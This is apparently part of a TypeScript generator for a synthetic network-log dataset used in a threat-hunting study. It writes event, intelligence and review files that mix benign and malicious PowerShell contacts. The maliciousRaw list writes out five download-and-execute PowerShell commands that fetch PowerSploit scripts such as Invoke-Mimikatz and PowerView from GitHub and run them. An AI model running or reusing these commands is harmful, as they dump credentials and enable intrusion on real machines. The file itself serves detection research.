  sites.push(...malicious.map((size) => site(names.suspicious(maliciousSuffixes), size, 'malicious')));

  if (recipe.flagged > 0) {
    takeSizes(sizes, 1, isCommonAmong(38, 38));
    sites.push(githubusercontent);
    sites.push(...takeSizes(sizes, 1, isCommonAmong(80, 130)).map((size) => site('adobe.com', size, 'flagged')));
    const flagged = [
      ...takeSizes(sizes, 17, (size) => size.rare),
      ...takeSizes(sizes, recipe.flagged - 17, isCommonAmong(6, 300)),
    ];
    sites.push(...flagged.map((size) => site(names.suspicious(flaggedSuffixes), size, 'flagged')));
  }

  const byConnections = [...sizes].sort((a, b) => b.connections - a.connections);
  const common = byConnections.filter((size) => !size.rare);
  const rare = byConnections.filter((size) => size.rare);
  const taken = new Set<string>();
  const nameOf = (known: readonly string[], index: number): string => known[index] ?? benignName(random, names, taken);
  sites.push(...common.map((size, index) => site(nameOf(recipe.frequentNames, index), size, 'benign')));
  sites.push(...rare.map((size, index) => site(nameOf(recipe.rareClouds, index), size, 'benign')));
  return sites;
}

/** A made-up name that the group has not; one in seven is known to another group. */
function benignName(random: Random, names: Names, taken: Set<string>): string {
  const shared = random() < 0.15 && names.shared.length > 200 ? pick(random, names.shared) : '';
  const name = shared !== '' && !taken.has(shared) ? shared : names.benign();
  taken.add(name);
  return name;
}

// ---------------------------------------------------------------------------------------------------------------
// Contacts: rows of the log. A row stands for `count` connections.

/** Rows for an FQDN: tens for the most frequent of all, a few for a frequent one, one or two for a rare one. */
function rowCount(random: Random, connections: number): number {
  if (connections > 50_000) return 24;
  if (connections > 5) return Math.max(1, Math.round(0.42 * Math.log2(connections)));
  return between(random, 1, Math.min(connections, 2));
}

/** Machines that contact a site: one to three for a rare one, few stricken ones for a malicious one. */
function makeHosts(random: Random, recipe: Recipe, site: Site): readonly string[] {
  if (site.standing === 'malicious') {
    const stricken = strickenHosts.filter((host) => recipe.images[machinesOf(host)] !== undefined);
    return shuffled(random, stricken).slice(0, between(random, 1, 2));
  }
  const count = site.rare ? pickWeighted(random, [[1, 6], [2, 3], [3, 1]]) : 40;
  return Array.from({ length: count }, () => machineMakers[pickWeighted(random, recipe.runsOn)](random));
}

/** The image that runs on `host`; services that connect all day, and malice, run as the group's usual one. */
function imageOn(random: Random, recipe: Recipe, host: string, usual: boolean): string {
  const images = recipe.images[machinesOf(host)] ?? [];
  return usual ? (images[0]?.[0] ?? '') : pickWeighted(random, images);
}

/** Now and then a name is logged in capitals. */
function spelled(random: Random, name: string): string {
  return random() < 0.015 ? name.toUpperCase() : name;
}

/** When the contacts of a site happen: malice and rare domains in a burst, the others at any time. */
function makeClock(random: Random, site: Site): () => number {
  // Malice tends to nights and weekends, but not always.
  const when = site.standing === 'malicious' && random() < 0.8 ? 'off' : 'office';
  if (!site.rare) return () => pickSecond(random, when);
  const start = pickSecond(random, when);
  const seconds = site.standing === 'malicious' ? 5 * 3600 : 3 * 86_400;
  return () => pickSecond(random, when, start, seconds);
}

function makeContacts(random: Random, recipe: Recipe, site: Site): Contact[] {
  const clock = makeClock(random, site);
  const hosts = makeHosts(random, recipe, site);
  const malicious = site.standing === 'malicious';
  const makers = malicious ? recipe.malicious : (ownArguments[site.baseDomain] ?? recipe.benign);
  return site.fqdns.flatMap((fqdn) => {
    const texts: string[] = [];
    return splitSum(random, fqdn.connections, rowCount(random, fqdn.connections)).map((count): Contact => {
      const host = pick(random, hosts);
      const user = userOf(random, host, malicious);
      // The same command runs again and again; a new one comes now and then.
      if (texts.length === 0 || random() < 0.2) texts.push(pick(random, makers)({ random, fqdn: fqdn.name, user }));
      const image = imageOn(random, recipe, host, malicious || count > 1000);
      return { second: clock(), host, user, image, arguments: pick(random, texts), remoteHost: spelled(random, fqdn.name), count };
    });
  });
}

const powerSploit = 'https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master';

/** The five contacts that the study's authors called malicious, each with arguments of its own. */
const maliciousRaw: readonly (readonly [text: string, note: string])[] = [
  [`-NoP -Exec Bypass -C "IEX (New-Object Net.WebClient).DownloadString('${powerSploit}/Exfiltration/Invoke-Mimikatz.ps1'); Invoke-Mimikatz"`, 'Downloads PowerSploit and runs Invoke-Mimikatz'],
  [`-nop -w hidden -c "iex (iwr '${powerSploit}/Exfiltration/Invoke-Mimikatz.ps1' -UseBasicParsing); Invoke-Mimikatz"`, 'Invoke-Mimikatz in a hidden window'],
  [`-ep bypass -c "IEX(New-Object Net.WebClient).DownloadString('${powerSploit}/Recon/PowerView.ps1'); Get-NetDomain"`, 'PowerSploit download: PowerView'],
  [`-NoProfile -Command "(New-Object Net.WebClient).DownloadFile('${powerSploit}/Privesc/PowerUp.ps1', 'C:\\Users\\Public\\pu.ps1')"`, 'PowerSploit download: PowerUp'],
  [`-c "irm ${powerSploit}/PowerSploit.psm1 | iex"`, 'PowerSploit download: the whole module'],
];

/** The other five. */
const benignRaw: readonly (readonly [text: string, note: string])[] = [
  ['-NoProfile -Command "iwr https://raw.githubusercontent.com/PowerShell/PowerShell/master/tools/install-powershell.ps1 -OutFile C:\\Scripts\\install.ps1"', "Microsoft's own installer script"],
  ['-NoProfile -Command "irm https://raw.githubusercontent.com/microsoft/winget-pkgs/master/README.md"', 'Reads a text file of winget'],
  ['-File C:\\Scripts\\sync-templates.ps1 -Source https://raw.githubusercontent.com/Azure/azure-quickstart-templates/master', "Fetches Azure's quickstart templates"],
  ['-NoProfile -Command "(iwr https://raw.githubusercontent.com/actions/runner-images/main/README.md).Content | Select-String ""windows-2022, pwsh"""', 'Build machine asks for image versions'],
  ['-NonInteractive -File C:\\Scripts\\update-blocklist.ps1 -Uri https://raw.githubusercontent.com/StevenBlack/hosts/master/hosts', 'Fetches a block-list'],
];

/** The contacts of githubusercontent.com: ten to `raw.`, one a row, and 28 to `objects.` */
function makeGithubContacts(random: Random): Contact[] {
  const contact = (fqdn: string, text: string, count: number, malicious: boolean): Contact => {
    const host = malicious ? pick(random, ['WS-0417', 'WS-0418']) : pick(random, ['BUILD-02', 'BUILD-05', 'WS-0731', 'WS-1119', 'LT-101']);
    const second = pickSecond(random, malicious ? 'off' : 'office');
    return { second, host, user: userOf(random, host, malicious), image: 'powershell.exe', arguments: text, remoteHost: fqdn, count };
  };
  const objects = '-NoProfile -File C:\\Scripts\\fetch-release.ps1 -Repository PowerShell/PowerShell -Asset win-x64.zip';
  return [
    ...maliciousRaw.map(([text]) => contact('raw.githubusercontent.com', text, 1, true)),
    ...benignRaw.map(([text]) => contact('raw.githubusercontent.com', text, 1, false)),
    ...splitSum(random, 28, 9).map((count) => contact('objects.githubusercontent.com', objects, count, false)),
  ];
}

// ---------------------------------------------------------------------------------------------------------------
// Text.

/** A field of a CSV file: in quotes where it must be, quotes within doubled. */
function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

function csv(header: string, rows: readonly (readonly (string | number)[])[]): string {
  return [header, ...rows.map((row) => row.map((value) => csvField(String(value))).join(','))].join('\n') + '\n';
}

function eventsText(contacts: readonly Contact[]): string {
  const sorted = [...contacts].sort((a, b) => a.second - b.second);
  return csv(
    'timestamp,host_name,user_name,process_name,process_args,remote_host,count',
    sorted.map((row) => [isoTime(row.second), row.host, row.user, row.image, row.arguments, row.remoteHost, row.count]),
  );
}

/** What intelligence lists of a malicious site: all of it, or only the first of its FQDNs. */
function listed(random: Random, site: Site): string[] {
  const fqdns = site.fqdns.map((fqdn) => fqdn.name);
  if (site.standing === 'flagged') return [site.baseDomain];
  return random() < 0.5 ? [site.baseDomain, ...fqdns] : fqdns.slice(0, 1);
}

function intelligenceText(random: Random, sites: readonly Site[], names: Names): string {
  const suspicious = sites.filter((site) => site.standing !== 'benign');
  const contacted = suspicious.flatMap((site) => listed(random, site));
  const others = Array.from({ length: 240 }, () => names.suspicious(maliciousSuffixes));
  return [
    '# Intelligence for the study replica: made up, of no use anywhere else.',
    '# Apart from adobe.com, which the study names as a false alarm, every name carries the word "replica".',
    '# One domain a line.',
    ...[...new Set([...contacted, ...others])].sort(),
  ].join('\n') + '\n';
}

/** Why a flagged domain was judged benign. */
const falseAlarms = ["The vendor's own download, signed", 'Update check of a product in use', 'Only one old list names it', 'Shared host, listed for a neighbour'];

function reviewText(sites: readonly Site[], contacts: ReadonlyMap<Site, readonly Contact[]>): string {
  const flagged = sites.filter((site) => site.standing === 'flagged');
  const raw = 'raw.githubusercontent.com';
  return csv('verdict,domain,arguments,note', [
    ...maliciousRaw.map(([text, note]) => ['malicious', raw, text, note]),
    ...benignRaw.map(([text, note]) => ['benign', raw, text, note]),
    ...flagged.map((site, index) => {
      const reason = falseAlarms[index % falseAlarms.length] ?? '';
      return ['benign', site.baseDomain, '', `${reason}. Arguments: ${contacts.get(site)?.[0]?.arguments ?? ''}`];
    }),
  ]);
}

/** Makes the replica; pure, the same text at every call. */
export function makeReplica(): Replica {
  const names = new Names(createRandom(seed));
  const contacts = new Map<Site, readonly Contact[]>();
  recipes.forEach((recipe, index) => {
    const random = createRandom(seed + 1 + index);
    for (const site of makeSites(random, recipe, names)) {
      contacts.set(site, site === githubusercontent ? makeGithubContacts(random) : makeContacts(random, recipe, site));
    }
  });
  const sites = [...contacts.keys()];
  return {
    events: eventsText([...contacts.values()].flat()),
    intelligence: intelligenceText(createRandom(seed), sites, names),
    review: reviewText(sites, contacts),
  };
}

function writeReplica(): void {
  const folder = new URL('../src/replica/', import.meta.url);
  const replica = makeReplica();
  mkdirSync(folder, { recursive: true });
  const files = { 'events.csv': replica.events, 'intelligence.txt': replica.intelligence, 'review.csv': replica.review };
  for (const [name, text] of Object.entries(files)) {
    writeFileSync(new URL(name, folder), text);
    console.log(`${fileURLToPath(new URL(name, folder))}: ${Buffer.byteLength(text)} bytes`);
  }
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) writeReplica();
